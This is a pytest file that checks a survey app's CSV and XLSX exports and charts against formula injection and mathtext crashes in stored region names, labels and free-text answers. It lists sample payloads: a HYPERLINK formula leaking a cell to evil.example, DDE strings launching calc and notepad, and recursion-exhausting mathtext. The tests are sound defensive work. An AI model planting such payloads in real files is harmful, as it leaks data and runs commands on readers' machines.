"""Issue 23, items 1 and 2: stored text that a spreadsheet or matplotlib would execute.

The payloads are planted as an attacker would: an officer renames regions and relabels a
point through the staff forms, a resident types into the questionnaire's free-text boxes.
Then every CSV and XLSX download is opened as its reader opens it (csv, openpyxl) and no
cell may be a live formula; every chart, page and briefing built from a region named
``$\\nosuchcmd$`` (or with brackets nested deep enough to exhaust mathtext's recursion)
must answer 200 and show the name as typed.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterable
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from survey import demo
from survey.extensions import db
from survey.models import CollectionPoint
from survey.models import Region
from tests.survey.admin.conftest import AuthActions
from tests.survey.public.conftest import open_form
from tests.survey.public.conftest import valid_answers

NOW = dt.datetime(2026, 11, 30, 12, tzinfo=dt.UTC)

#: Region names an officer plants (code -> new name); one per dangerous first character.
FORMULA_NAMES = {
    "999901": '=HYPERLINK("http://evil.example/?leak="&A1,"临江区")',
    "999902": "@SUM(1+1)*cmd|' /C calc'!A0",
}
STREET_FORMULAS = ("-2+3+cmd|' /C calc'!A0", "+1+1")
POINT_LABEL = "=cmd|' /C notepad'!A0"
FREE_TEXT = '=HYPERLINK("http://evil.example","点此领奖")'
OTHER_TEXT = "+1+1 图书馆"
#: What a spreadsheet runs as a formula when it starts a cell (OWASP's list).
STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?%?")

MATH_NAMES = {
    "999901": r"$\nosuchcmd$",
    "999902": "$" + "{" * 49 + "}" * 49 + "$",  # RecursionError inside mathtext's parser
}


def _live(value: Any) -> bool:
    """A cell a spreadsheet would evaluate (a signed plain number is just that number)."""
    return isinstance(value, str) and value.startswith(STARTS) and not PLAIN_NUMBER.fullmatch(value)


def _ids(app: Flask, codes: Iterable[str]) -> dict[str, int]:
    with app.app_context():
        rows = db.session.execute(db.select(Region.code, Region.id).where(Region.code.in_(codes)))
        return {code: rid for code, rid in rows}


def _streets(app: Flask, n: int) -> list[str]:
    with app.app_context():
        query = db.select(Region.code).where(Region.level == "street").order_by(Region.code)
        return list(db.session.execute(query.limit(n)).scalars())


def _rename(client: FlaskClient, auth: AuthActions, app: Flask, names: dict[str, str]) -> None:
    ids = _ids(app, names)
    for code, name in names.items():
        token = auth.token("/admin/regions")
        got = client.post(
            f"/admin/regions/{ids[code]}/rename", data={"name": name, "csrf_token": token}
        )
        assert got.status_code == 302, (code, got.status_code)


def _plant_free_text(client: FlaskClient, app: Flask) -> str:
    """A resident answers through the real form, with formulas in both free-text boxes."""
    with app.app_context():
        point = (
            db.session.execute(db.select(CollectionPoint).order_by(CollectionPoint.id))
            .scalars()
            .first()
        )
        assert point is not None
        code = point.code
    street = _streets(app, 1)[0]
    answers = {
        **valid_answers(street),
        "suggestions": FREE_TEXT,
        "volunteer_kind__other": OTHER_TEXT,
    }
    form = open_form(client, code)
    got = client.post(f"/q/{code}", data=form.body(answers))
    assert got.status_code == 303, got.status_code
    return code


@pytest.fixture
def planted(staff: Flask, client: FlaskClient, auth: AuthActions) -> Flask:
    """The demo city with responses, formula names, a formula label and formula answers."""
    with staff.app_context():
        demo.add_responses(150, seed=23, weeks=3, now=NOW)
    _plant_free_text(client, staff)
    auth.login()
    streets = _streets(staff, len(STREET_FORMULAS))
    _rename(
        client, auth, staff, {**FORMULA_NAMES, **dict(zip(streets, STREET_FORMULAS, strict=True))}
    )
    with staff.app_context():
        point_id = db.session.execute(db.select(db.func.min(CollectionPoint.id))).scalar_one()
    token = auth.token(f"/admin/points/{point_id}")
    got = client.post(
        f"/admin/points/{point_id}/label", data={"label": POINT_LABEL, "csrf_token": token}
    )
    assert got.status_code == 302
    return staff


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(body: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(body))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def _assert_safe(cells: list[Any], planted: Iterable[str], where: str) -> None:
    live = [c for c in cells if _live(c)]
    assert live == [], (where, live[:5])
    for payload in planted:
        assert "'" + payload in cells or any(
            isinstance(c, str) and c.startswith("'" + payload) for c in cells
        ), (where, payload)


def _get(client: FlaskClient, url: str) -> bytes:
    got = client.get(url)
    assert got.status_code == 200, (url, got.status_code)
    return got.get_data()


REGION_PAYLOADS = (*FORMULA_NAMES.values(), *STREET_FORMULAS)


def test_report_workbook_and_tables_hold_no_formula(
    planted: Flask, client: FlaskClient, auth: AuthActions
) -> None:
    cells = _xlsx_cells(_get(client, "/admin/exports/report.xlsx?level=street"))
    _assert_safe(cells, REGION_PAYLOADS, "report.xlsx")
    # Numbers stay numbers: the estimates are numeric cells, not text.
    assert sum(isinstance(c, float) for c in cells) > 50
    district_csv = _csv_cells(_get(client, "/admin/exports/table-district.csv"))
    _assert_safe(district_csv, FORMULA_NAMES.values(), "table-district.csv")
    street_csv = _csv_cells(_get(client, "/admin/exports/table-street.csv"))
    _assert_safe(street_csv, STREET_FORMULAS, "table-street.csv")


def test_population_exports_hold_no_formula(
    planted: Flask, client: FlaskClient, auth: AuthActions
) -> None:
    cells = _xlsx_cells(_get(client, "/admin/population/export.xlsx"))
    _assert_safe(cells, FORMULA_NAMES.values(), "population.xlsx")
    assert any(isinstance(c, int) for c in cells)  # the demo city's counts stay numbers
    _assert_safe(
        _csv_cells(_get(client, "/admin/population/export.csv")),
        FORMULA_NAMES.values(),
        "population.csv",
    )


def test_free_text_and_raw_responses_hold_no_formula(
    planted: Flask, client: FlaskClient, auth: AuthActions
) -> None:
    text = _csv_cells(_get(client, "/admin/questions/text.csv?question=suggestions&flagged=1"))
    _assert_safe(text, [FREE_TEXT], "text.csv")
    raw = _csv_cells(_get(client, "/admin/exports/responses.csv?flagged=include"))
    _assert_safe(raw, [FREE_TEXT, OTHER_TEXT, *REGION_PAYLOADS], "responses.csv")


def test_point_lists_and_qr_index_hold_no_formula(
    planted: Flask, client: FlaskClient, auth: AuthActions
) -> None:
    expected = [POINT_LABEL, *FORMULA_NAMES.values()]
    _assert_safe(_csv_cells(_get(client, "/admin/points/export.csv")), expected, "points.csv")
    _assert_safe(_xlsx_cells(_get(client, "/admin/points/export.xlsx")), expected, "points.xlsx")
    with planted.app_context():
        point_id = db.session.execute(db.select(db.func.min(CollectionPoint.id))).scalar_one()
    archive = zipfile.ZipFile(io.BytesIO(_get(client, f"/admin/points/qr.zip?ids={point_id}")))
    _assert_safe(_csv_cells(archive.read("index.csv")), [POINT_LABEL], "qr index.csv")


@pytest.fixture
def math_named(staff: Flask, client: FlaskClient, auth: AuthActions) -> Flask:
    """The demo city with responses, two districts renamed to mathtext that fails."""
    with staff.app_context():
        demo.add_responses(150, seed=24, weeks=3, now=NOW)
    auth.login()
    _rename(client, auth, staff, MATH_NAMES)
    return staff


def _svgs(page: str) -> str:
    return "".join(re.findall(r"<svg.*?</svg>", page, flags=re.S))


def test_mathtext_names_are_drawn_as_plain_text(
    math_named: Flask, client: FlaskClient, auth: AuthActions
) -> None:
    district = _ids(math_named, ["999901"])["999901"]
    page = _get(client, "/admin/crosstab?question=aware_campaign&by=district").decode()
    # The chart's own text (not only the table next to it) holds the name as typed.
    assert r"$\nosuchcmd$" in _svgs(page)
    for url in (
        "/admin/crosstab?question=sat_overall&by=district&weighting=rake",
        "/admin/crosstab?question=aware_report&by=district",
        "/admin/questions",
        f"/admin/questions?region={district}",
        "/admin/",
        "/admin/?level=street",
        "/admin/charts/trend-awareness.png",
        f"/admin/charts/trend-awareness.png?region={district}",
        f"/admin/charts/trend-satisfaction_score.svg?region={district}",
        "/admin/exports/briefing",
        "/admin/exports/briefing.docx",
        "/admin/exports/report.xlsx",
        "/api/v1/estimates?by=district",
    ):
        _get(client, url)
